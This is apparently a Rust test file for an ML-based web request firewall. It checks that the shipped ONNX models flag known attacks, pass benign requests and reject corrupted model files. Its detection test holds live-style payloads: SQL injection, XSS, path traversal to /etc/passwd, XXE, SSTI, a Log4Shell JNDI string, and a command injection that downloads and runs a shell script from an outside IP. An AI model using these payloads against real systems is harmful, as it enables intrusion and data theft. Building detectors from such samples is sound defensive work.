//! The shipped models on requests of which everybody knows what they are, and every way in which a set of models can be
//! broken. They need ONNX Runtime where `cargo xtask setup` puts it, and say so when they skip.

use std::{
    fs,
    path::{Path, PathBuf},
    time::Duration,
};

use base64::{Engine, engine::general_purpose::STANDARD};
use sha2::{Digest, Sha256};

use super::{
    Answer, Classifier, ClassifierLimits, InlineRequestModels, Job, Manifest, MatrixSession, ModelError, ModelRole,
    Models, Runtime, Scratch,
};
use crate::{
    clock,
    config::ModelsConfig,
    features::http::http_schema,
    inspect::{ATTACK_TAGS, RawRequest, RuleSigns, SIGN_PLACES},
    metrics::Metrics,
};

type TestResult = Result<(), Box<dyn std::error::Error>>;

fn workspace() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

pub(super) fn shipped() -> PathBuf {
    workspace().join("models")
}

/// ONNX Runtime's library, or `None` with a word about it.
pub(super) fn library() -> Option<PathBuf> {
    let target = std::env::var_os("CARGO_TARGET_DIR").map_or_else(|| workspace().join("target"), PathBuf::from);
    let path = target.join("onnxruntime").join(std::env::consts::ARCH).join("libonnxruntime.so");
    if path.is_file() {
        return path.canonicalize().ok();
    }
    eprintln!("skipped: no ONNX Runtime at {}; `cargo xtask setup` fetches it", path.display());
    None
}

fn request(text: &str) -> RawRequest {
    RawRequest::parse(text.replace('\n', "\r\n").as_bytes())
}

const BROWSER: &str = "Host: shop.example\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\n\
    Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\nAccept-Language: en-US,en;q=0.5\n";

fn get(target: &str) -> RawRequest {
    request(&format!("GET {target} HTTP/1.1\n{BROWSER}\n"))
}

fn post(target: &str, kind: &str, body: &str) -> RawRequest {
    let mut request = request(&format!("POST {target} HTTP/1.1\n{BROWSER}Content-Type: {kind}\n\n"));
    request.body = body.as_bytes().to_vec();
    request
}

#[test]
fn each_shipped_model_has_a_card_of_this_very_file() -> TestResult {
    let dir = shipped();
    let manifest = Manifest::read(&dir)?;
    for entry in &manifest.models {
        let card = fs::read_to_string(dir.join("cards").join(entry.file.with_extension("md")))?;
        assert!(card.contains(&entry.sha256), "{}: `models/train/cards.py` writes its card", entry.name);
    }
    Ok(())
}

#[test]
fn known_attacks_are_found_and_named() -> TestResult {
    let Some(library) = library() else { return Ok(()) };
    let mut models = InlineRequestModels::load(&shipped(), &library, None)?;
    let mut scratch = Scratch::new();
    let form = "application/x-www-form-urlencoded";
    let cases = [
        ("sqli", get("/item?id=1%27%20OR%20%271%27=%271%27--%20-")),
        ("sqli", get("/item?id=1%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x71,0x62),NULL--%20-")),
        (
            "sqli",
            get(
                "/item?id=1%29%20AND%207532%3D%28SELECT%20COUNT%28%2A%29%20FROM%20INFORMATION_SCHEMA.COLUMNS%20A%29--%20VfJf",
            ),
        ),
        ("sqli", post("/login", form, "username=admin%27+or+%271%27%3D%271&password=x")),
        ("xss", get("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")),
        ("xss", get("/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E")),
        ("traversal", get("/download?file=../../../../../../etc/passwd")),
        ("traversal", get("/static/..%252f..%252f..%252f..%252fetc%252fpasswd")),
        ("rce", get("/ping?host=127.0.0.1;wget%20http://203.0.113.9/x.sh%20-O%20/tmp/x;sh%20/tmp/x")),
        ("rce", post("/api", "application/json", r#"{"name":"${jndi:ldap://203.0.113.9:1389/a}"}"#)),
        ("ssti", get("/hello?name=%7B%7B''.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D")),
        (
            "xxe",
            post(
                "/xml",
                "application/xml",
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            ),
        ),
    ];
    let mut missed = Vec::new();
    for (class, request) in cases {
        let (score, answer) = models.judge(&request.view(), &mut scratch, None)?;
        match answer {
            Answer::Attack(attack) if attack.class.as_str() == class => {
                assert!(attack.evidence.value.is_some_and(|value| !value.is_empty() && value.len() <= 120));
                assert!(!attack.evidence.weights.is_empty(), "{class}: no n-gram weighed anything");
            }
            other => missed.push(format!("{class} {}: {score:?} {other:?}", String::from_utf8_lossy(&request.target))),
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
    Ok(())
}

#[test]
fn honest_requests_pass() -> TestResult {
    let Some(library) = library() else { return Ok(()) };
    let mut models = InlineRequestModels::load(&shipped(), &library, None)?;
    let mut scratch = Scratch::new();
    let form = "application/x-www-form-urlencoded";
    let multipart = "--XX\r\nContent-Disposition: form-data; name=\"file\"; filename=\"Sean's cat (1).png\"\r\n\
        Content-Type: image/png\r\n\r\n\u{89}PNG\r\n\u{1a}\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\r\n--XX--\r\n";
    let cases = [
        get("/"),
        get("/search?q=O%27Brien"),
        get("/search?q=how+to+select+a+union+representative+from+the+list"),
        get("/search?q=rock+%27n%27+roll+%26+%22blues%22"),
        get("/products?sort=-price&page=2&filter%5Bcolor%5D=red"),
        get("/static/app.3f9c2b1a.min.js?v=1.2.3"),
        get("/wiki/C%2B%2B_(programming_language)"),
        request("GET /api/health HTTP/1.1\nHost: shop.example\nUser-Agent: curl/8.5.0\nAccept: */*\n\n"),
        request(
            "GET / HTTP/1.1\nHost: 192.0.2.1\nUser-Agent: python-requests/2.31.0\nAccept: */*\nConnection: keep-alive\n\n",
        ),
        post("/login", form, "username=alice&password=c0rrect-h%40rse%21%26%3D%27&csrf_token=ab12cd34ef56ab12cd34ef56"),
        post(
            "/comments",
            form,
            "name=Siobh%C3%A1n+O%27Neill&text=I+don%27t+agree%3B+the+first+table+is+%3C+20+%E2%82%AC+%28see+%231%29.",
        ),
        post(
            "/api/items",
            "application/json",
            r#"{"title":"6\" pipe & fittings","price":12.5,"tags":["a","b"],"note":"it's ok; order by phone"}"#,
        ),
        post("/upload", "multipart/form-data; boundary=XX", multipart),
    ];
    let mut refused = Vec::new();
    for request in cases {
        if let (score, Answer::Attack(attack)) = models.judge(&request.view(), &mut scratch, None)? {
            refused.push(format!("{score:?} {attack:?}"));
        }
    }
    assert!(refused.is_empty(), "{refused:#?}");
    Ok(())
}

/// What training said of these requests, with the rules' counts that it saw: the same code must come to the same numbers.
#[test]
fn the_daemon_judges_as_training_did() -> TestResult {
    #[derive(serde::Deserialize)]
    struct Probe {
        id: String,
        raw: String,
        signs: Vec<u16>,
        confidence: [f32; 2],
    }
    let Some(library) = library() else { return Ok(()) };
    let mut models = InlineRequestModels::load(&shipped(), &library, None)?;
    let mut scratch = Scratch::new();
    let (mut count, mut apart_sum) = (0, 0.0);
    for line in fs::read_to_string(shipped().join("train/probe.jsonl"))?.lines() {
        let probe: Probe = serde_json::from_str(line)?;
        let request = RawRequest::parse(&STANDARD.decode(&probe.raw)?);
        let (attacks, rest) = probe.signs.split_at(ATTACK_TAGS.len());
        let signs = RuleSigns {
            attacks: std::array::from_fn(|n| attacks[n] as u8),
            places: std::array::from_fn(|n| rest[n] as u8),
            score: rest[SIGN_PLACES.len()],
            field_score: rest[SIGN_PLACES.len() + 1],
            field_kinds: rest[SIGN_PLACES.len() + 2] as u8,
        };
        for (signs, expected) in [(None, probe.confidence[0]), (Some(signs), probe.confidence[1])] {
            models.gate().score(&request.view(), &mut scratch);
            let case = models.gate().case(&mut scratch, signs);
            let verdict = models.core().judge(&[&case])?[0];
            // Trees jump where the rounded table of the gate tips a score over a split.
            let odds = |share: f32| (share / (1.0 - share)).ln();
            let apart = (odds(verdict.confidence) - odds(expected)).abs();
            assert!(apart < 1.5, "{} {signs:?}: {} here, {expected} in training", probe.id, verdict.confidence);
            apart_sum += apart;
            count += 1;
        }
    }
    assert!(count >= 40, "only {count} probes");
    assert!(apart_sum / (count as f32) < 0.1, "{} apart on average", apart_sum / count as f32);
    Ok(())
}

/// Gate and classifier look at the worst stretch of a field. The judge still lets about half of what is padded pass:
/// models/README.md says how much.
#[test]
fn padding_hides_nothing_from_gate_and_classifier() -> TestResult {
    let Some(library) = library() else { return Ok(()) };
    let mut models = InlineRequestModels::load(&shipped(), &library, None)?;
    let padding = "the quick brown fox jumps over the lazy dog and goes home to sleep ".repeat(60);
    let body = format!("{{\"text\":\"{padding} 1' UNION SELECT username, password FROM users-- - {padding}\"}}");
    let mut scratch = Scratch::new();
    let score = models.gate().score(&post("/api", "application/json", &body).view(), &mut scratch);
    let case = models.gate().case(&mut scratch, None);
    let verdict = models.core().judge(&[&case])?[0];
    assert!(score.flagged && verdict.field_confidence > 0.7, "{score:?} {verdict:?}");
    assert_eq!(verdict.class.as_str(), "sqli");
    Ok(())
}

#[test]
fn a_cached_score_is_the_computed_score() -> TestResult {
    let Some(library) = library() else { return Ok(()) };
    let models = InlineRequestModels::load(&shipped(), &library, None)?;
    let request = get("/item?id=1%27%20OR%20%271%27=%271");
    let mut scratch = Scratch::new();
    let first = models.gate().score(&request.view(), &mut scratch);
    let cached = models.gate().score(&request.view(), &mut scratch);
    scratch.forget();
    assert_eq!(first, cached);
    assert_eq!(first, models.gate().score(&request.view(), &mut scratch));
    Ok(())
}

/// A copy of the shipped models to break.
fn copy() -> Result<tempfile::TempDir, Box<dyn std::error::Error>> {
    let dir = tempfile::tempdir()?;
    for file in [
        "manifest.toml",
        "request_gate.onnx",
        "request_classifier.onnx",
        "request_judge.onnx",
        "request_judge_rules.onnx",
    ] {
        fs::copy(shipped().join(file), dir.path().join(file))?;
    }
    Ok(dir)
}

fn load(dir: &Path, library: &Path) -> Result<Models, ModelError> {
    let config = ModelsConfig { dir: dir.into(), runtime: library.into(), ..ModelsConfig::default() };
    let metrics =
        Metrics::new().map_err(|error| ModelError::Manifest { path: dir.into(), reason: error.to_string() })?;
    Models::load(&config, &metrics)
}

/// A copy of all of them.
pub(super) fn copy_all() -> Result<tempfile::TempDir, Box<dyn std::error::Error>> {
    let dir = copy()?;
    for file in ["source_forest.onnx", "source_classifier.onnx"] {
        fs::copy(shipped().join(file), dir.path().join(file))?;
    }
    Ok(dir)
}

/// Puts other bytes in the place of a model, with or without telling the manifest.
pub(super) fn replace(dir: &Path, file: &str, bytes: &[u8], in_manifest: bool) -> TestResult {
    let hex = |bytes: &[u8]| -> String { Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect() };
    let old = hex(&fs::read(dir.join(file))?);
    fs::write(dir.join(file), bytes)?;
    if in_manifest {
        let manifest = fs::read_to_string(dir.join("manifest.toml"))?;
        fs::write(dir.join("manifest.toml"), manifest.replace(&old, &hex(bytes)))?;
    }
    Ok(())
}

#[test]
fn the_shipped_set_loads_and_describes_itself() -> TestResult {
    let Some(library) = library() else { return Ok(()) };
    let models = load(&shipped(), &library)?;
    let roles: Vec<ModelRole> = models.describe().iter().map(|model| model.role).collect();
    assert!(roles.contains(&ModelRole::RequestGate) && roles.contains(&ModelRole::RequestClassifier));
    Ok(())
}

#[test]
fn broken_files_are_errors_of_one_line() -> TestResult {
    let Some(library) = library() else { return Ok(()) };
    let gate = fs::read(shipped().join("request_gate.onnx"))?;
    let classifier = fs::read(shipped().join("request_classifier.onnx"))?;
    let mut flipped = gate.clone();
    let middle = flipped.len() / 2;
    flipped[middle] ^= 0x40;
    let garbage: Vec<u8> = (0..5_000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let swapped = classifier.as_slice();
    let cases: [(&[u8], bool, &str); 6] = [
        (&flipped, false, "sha256"),
        (&gate[..gate.len() - 100], true, "not a valid ONNX message"),
        (&gate[..20], true, "not a valid ONNX message"),
        (&garbage, true, "refused before it was loaded"),
        (b"", true, "says no format version"),
        (swapped, true, "output"),
    ];
    for (bytes, in_manifest, expected) in cases {
        let dir = copy()?;
        replace(dir.path(), "request_gate.onnx", bytes, in_manifest)?;
        let error = load(dir.path(), &library).err().map(|error| error.to_string()).unwrap_or_default();
        assert!(error.contains(expected) && !error.contains('\n'), "expected {expected}: {error}");
    }
    Ok(())
}

#[test]
fn many_truncations_and_flips_never_crash() -> TestResult {
    let Some(library) = library() else { return Ok(()) };
    let runtime = Runtime::load(&library)?;
    let gate = fs::read(shipped().join("request_gate.onnx"))?;
    // The graph's structure is at both ends; the table between them is only numbers.
    for cut in (0..400).step_by(7) {
        assert!(super::IdSession::new(&runtime, "cut", &gate[..cut], 1).is_err(), "{cut} bytes were a model");
        let mut flipped = gate.clone();
        let at = if cut % 2 == 0 { cut } else { flipped.len() - 1 - cut };
        flipped[at] ^= 1 << (cut % 8);
        // Some flips leave a valid model; all that counts is an answer without a crash.
        if let Ok(mut session) = super::IdSession::new(&runtime, "flip", &flipped, 1) {
            let _answer = session.run(&[1, 2, 3], 3);
        }
    }
    assert!(MatrixSession::new(&runtime, "gate", &gate, 4).is_err());
    Ok(())
}

#[test]
fn broken_manifests_say_what_is_wrong() -> TestResult {
    let Some(library) = library() else { return Ok(()) };
    let manifest = fs::read_to_string(shipped().join("manifest.toml"))?;
    let schema = http_schema().hash();
    let cases = [
        ("", "missing field `format`"),
        ("format = 2\n", "format is 2"),
        ("format = 1\n", "no model with role `request_gate`"),
        ("format = 1\n[[model]]\nname = 1\n", "line 3"),
        (&manifest.replace(&schema, "0123456789abcdef"), "train it again"),
        (&manifest.replace("flag_cookie", "flag_biscuit"), "threshold `flag_cookie` is missing"),
        (&manifest.replace("\"xss\"", "\"sorcery\""), "class `sorcery`"),
        (&manifest.replace("request_gate.onnx", "../../etc/passwd"), "must be a plain file name"),
    ];
    for (text, expected) in cases {
        let dir = copy()?;
        fs::write(dir.path().join("manifest.toml"), text)?;
        let error = load(dir.path(), &library).err().map(|error| error.to_string()).unwrap_or_default();
        assert!(error.contains(expected) && !error.contains('\n'), "expected {expected}: {error}");
    }
    Ok(())
}

#[test]
fn a_missing_runtime_is_an_error() {
    // In a process that has loaded it already the first one stays, so only the path is checked here.
    let error = Runtime::load(Path::new("/nowhere/libonnxruntime.so")).err().map(|error| error.to_string());
    if let Some(error) = error {
        assert!(error.contains("/nowhere/libonnxruntime.so: no such file"), "{error}");
    }
}

#[test]
fn late_jobs_are_dropped_and_a_full_queue_refuses() -> TestResult {
    let Some(library) = library() else { return Ok(()) };
    let runtime = Runtime::load(&library)?;
    let manifest = Manifest::read(&shipped())?;
    let metrics = Metrics::new()?.model("request-classifier");
    let limits = ClassifierLimits { batch_max: 4, queue_max: 2, confidence: None };
    let classifier = Classifier::start(&runtime, &manifest, limits, metrics.clone())?;
    let models = InlineRequestModels::load(&shipped(), &library, None)?;
    let mut scratch = Scratch::new();
    let score = models.gate().score(&get("/?q=%3Cscript%3Ealert(1)%3C/script%3E").view(), &mut scratch);
    assert!(score.flagged);
    let case = models.gate().case(&mut scratch, None);
    let (answers, received) = crossbeam_channel::bounded(16);
    let job = |deadline_boot_ns| {
        let answers = answers.clone();
        Job { case: case.clone(), deadline_boot_ns, answer: Box::new(move |answer| drop(answers.send(answer))) }
    };
    classifier.submit(job(clock::boot_ns() + 10_000_000_000))?;
    assert!(matches!(received.recv_timeout(Duration::from_secs(10))?, Answer::Attack(_)));
    classifier.submit(job(clock::boot_ns() - 1))?;
    assert!(received.recv_timeout(Duration::from_millis(300)).is_err(), "a late job was answered");
    assert_eq!(metrics.late.get(), 1);
    // The first answer holds the thread; behind it there is room for two.
    let (held, release) = crossbeam_channel::bounded::<()>(0);
    let (began, has_begun) = crossbeam_channel::bounded(1);
    let answer = Box::new(move |_| {
        let _sent = began.send(());
        let _released = release.recv();
    });
    classifier.submit(Job { case: case.clone(), deadline_boot_ns: u64::MAX, answer })?;
    has_begun.recv_timeout(Duration::from_secs(10))?;
    classifier.submit(job(u64::MAX))?;
    classifier.submit(job(u64::MAX))?;
    assert!(classifier.submit(job(u64::MAX)).is_err());
    drop(held);
    assert!(received.recv_timeout(Duration::from_secs(10)).is_ok());
    Ok(())
}

#[test]
fn the_sample_of_recipes_is_judged_right() -> TestResult {
    let Some(library) = library() else { return Ok(()) };
    let mut models = InlineRequestModels::load(&shipped(), &library, None)?;
    let mut scratch = Scratch::new();
    let (mut refused, mut found, mut malicious) = (0, 0, 0);
    for line in fs::read_to_string(shipped().join("train/sample.jsonl"))?.lines() {
        let row: serde_json::Value = serde_json::from_str(line)?;
        let raw = STANDARD.decode(row["raw"].as_str().unwrap_or_default())?;
        let (_, answer) = models.judge(&RawRequest::parse(&raw).view(), &mut scratch, None)?;
        let is_attack = matches!(answer, Answer::Attack(_));
        if row["label"] == "benign" {
            refused += usize::from(is_attack);
        } else {
            malicious += 1;
            found += usize::from(is_attack);
        }
    }
    assert_eq!(refused, 0);
    assert!(found * 10 >= malicious * 8, "{found} of {malicious}");
    Ok(())
}
